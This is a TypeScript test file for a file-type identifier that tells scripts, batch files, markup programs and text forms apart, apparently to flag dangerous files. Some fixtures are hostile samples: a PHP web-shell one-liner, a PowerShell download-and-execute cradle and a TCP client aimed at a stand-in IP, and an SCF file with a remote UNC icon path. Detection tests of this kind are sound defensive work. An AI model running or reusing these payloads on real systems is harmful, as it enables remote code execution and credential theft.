import assert from "node:assert/strict";
import { test } from "node:test";
import { identify, sourceOf } from "../index.ts";

const look = (text: string | Buffer) => identify(sourceOf(Buffer.from(text)), null);
const kind = (text: string): string => look(text).kind;
const lines = (...all: string[]): string => `${all.join("\r\n")}\r\n`;

test("programs are told by their first line", () => {
	assert.equal(kind("#!/bin/sh\necho hello\n"), "sh");
	assert.equal(kind("#! /usr/bin/env python3\nprint(1)\n"), "py");
	assert.equal(kind("\ufeff<?php system($_GET['c']); ?>"), "php");
	assert.equal(kind("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n"), "reg");
	assert.equal(kind("[InternetShortcut]\r\nURL=https://recipient.example/\r\n"), "url");
	assert.equal(kind("[Desktop Entry]\nExec=xterm\n"), "desktop");
	assert.equal(kind("[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.1\\x\r\n"), "scf");
	assert.equal(kind("#@~^NAAAAA==tUdVK6,r4VVGr~,q,.DTAAAA=="), "vbs");
});

test("batch files are told by their statements", () => {
	assert.equal(kind(lines("@echo off", "start calc.exe")), "bat");
	assert.equal(kind(lines("@ECHO OFF", "REM a comment", "copy a b", "exit")), "bat");
	assert.equal(kind(lines("rem update", "setlocal", "set X=1", "if exist a.txt del /q a.txt")), "bat");
	assert.equal(kind("powershell -NoProfile -EncodedCommand SQBFAFgA"), "bat");
	assert.equal(kind("start mshta.exe"), "bat");
});

test("PowerShell is told by its statements", () => {
	assert.equal(kind("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"), "ps1");
	assert.equal(
		kind("$client = New-Object System.Net.Sockets.TCPClient('192.0.2.1', 1)\n$client.Close()\n"),
		"ps1",
	);
	assert.equal(kind("<# help #>\nparam([string]$Path)\nGet-ChildItem $Path | Remove-Item -Force\n"), "ps1");
	assert.equal(kind("Write-Host 'hello'\n"), "ps1");
});

test("VBScript and JavaScript are told by their statements", () => {
	assert.equal(kind(lines('Set shell = CreateObject("WScript.Shell")', 'shell.Run "calc.exe"')), "vbs");
	assert.equal(kind(lines("Option Explicit", "Dim x", "x = 1", "MsgBox x")), "vbs");
	assert.equal(kind("var shell = new ActiveXObject('WScript.Shell');\nshell.Run('calc');\n"), "js");
	assert.equal(kind("(function () {\n  document.location = 'x';\n})();\n"), "js");
	assert.equal(kind("import { a } from './a.js';\nexport const b = () => a;\n"), "js");
	assert.equal(kind("WScript.Echo('a');\nvar a = 1;\n"), "js");
});

test("programs in markup are told from pages", () => {
	assert.equal(kind("<html><head><HTA:APPLICATION ID=x></head></html>"), "hta");
	assert.equal(kind('<script language="VBScript">MsgBox 1</script>'), "hta");
	assert.equal(kind('<job id="x"><script language="JScript">WScript.Echo(1)</script></job>'), "wsf");
	assert.equal(kind("<!doctype html><p>Hello<script>alert(1)</script>"), "html");
	assert.equal(kind("<job><title>Baker</title></job>"), "xml");
});

test("programs are seen in every encoding", () => {
	const text = "@echo off\r\nstart calc.exe\r\n";
	assert.equal(look(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")])).kind, "bat");
	assert.equal(look(Buffer.from(text, "utf16le")).kind, "bat");
	assert.equal(look(Buffer.from(text, "utf16le").swap16()).text?.encoding, "utf-16");
});

test("text that talks about programs is text", () => {
	const readme = lines(
		"# Backup",
		"",
		"Open PowerShell and run:",
		"",
		"    powershell -ExecutionPolicy Bypass -File backup.ps1",
		"    @echo off",
		"",
		"Then import the registry file; `var x = 1;` is not needed.",
	);
	assert.equal(kind(readme), "text");
	assert.equal(kind("Set up the printer as follows:\n1. Start the computer.\n2. Call us.\n"), "text");
	assert.equal(kind("Start with the basics.\nIf you like, go to the shop.\nFor more, call Ann.\n"), "text");
	assert.equal(kind("If (and only if) you agree, sign here;\nfunction and form follow;\n"), "text");
	assert.equal(kind("Import duties are due;\nexport papers too;\nlet us know;\n"), "text");
	assert.equal(kind("Dear Ann,\n\n$20 = 18 euro today.\n\nBob\n"), "text");
	assert.equal(kind("Dim lights, please.\nSet the table = tonight.\n"), "text");
	assert.equal(kind("To-do list\nFollow-Up with Bob\nCheck-In at 9\n"), "text");
	assert.equal(kind("#hashtag and more\n#another\n"), "text");
	assert.equal(kind("MZ is not a postcode, BM neither; FWS and CWS are clubs.\n"), "text");
	assert.equal(kind("Total=3\nName = Ann\nPlace = Lyon\n"), "text");
	assert.equal(kind("echo 'hello'\nis how a shell greets you.\nAll shells do.\n"), "text");
});

test("forms are told by their shape", () => {
	const forms = (text: string) => look(text).text?.forms;
	assert.deepEqual(forms("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n"), ["ics"]);
	assert.deepEqual(forms("BEGIN:VCARD\r\nVERSION:4.0\r\nEND:VCARD\r\n"), ["vcf"]);
	assert.deepEqual(forms('{"a": [1, 2]}'), ["json"]);
	assert.deepEqual(forms('{"a": 1}\n{"a": 2}\n'), ["json"]);
	assert.deepEqual(forms("name;price\nbread;2,50\nbutter;3,10\n"), ["csv"]);
	assert.deepEqual(forms('<?xml version="1.0"?><!-- drawn --><svg xmlns="x"/>'), ["svg", "xml"]);
	assert.deepEqual(forms("<address><town>Bern</town></Address>\n"), ["html", "xml"]);
	assert.deepEqual(forms("<html></html>"), ["html"]);
	assert.deepEqual(forms('<!DOCTYPE svg [<!ENTITY a "b>">]>\n<svg:svg/>'), ["svg", "xml"]);
	assert.deepEqual(forms("<!DOCTYPE html><html></html>"), ["html"]);
	assert.deepEqual(forms("-----BEGIN PGP MESSAGE-----\n\nabc=\n-----END PGP MESSAGE-----\n"), ["pgp"]);
	assert.deepEqual(forms("-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"), ["pem"]);
	assert.deepEqual(forms("From: ann@sender.example\nSubject: Hello\n\nHello, Bob\n"), ["eml"]);
	assert.deepEqual(forms("x-store-info:abc\nfrom:ann@sender.example\nDate:today\n\nHello\n"), ["eml"]);
	assert.deepEqual(forms("Content-Type: text/plain\n\nHello\n"), ["eml"]);
	assert.deepEqual(forms("Note: hello\nDate: today\n"), []);
	assert.deepEqual(forms("Dear Ann,\nsee you.\n"), []);
});

test("octets that are no text are not taken for text", () => {
	assert.equal(look(Buffer.from([1, 2, 3, 4, 5, 6, 7, 8])).text, null);
	assert.equal(look(Buffer.from("text\0with a NUL")).text, null);
	assert.equal(look(Buffer.concat([Buffer.alloc(100_000, "text "), Buffer.alloc(10)])).text, null);
	assert.equal(look(Buffer.from("d\xe9j\xe0 vu", "latin1")).text?.encoding, "8-bit");
	assert.equal(look("déjà vu").text?.encoding, "utf-8");
	assert.equal(look("é".repeat(70_000)).text?.encoding, "utf-8");
	assert.equal(look(`x${"é".repeat(70_000)}`).text?.encoding, "utf-8");
});
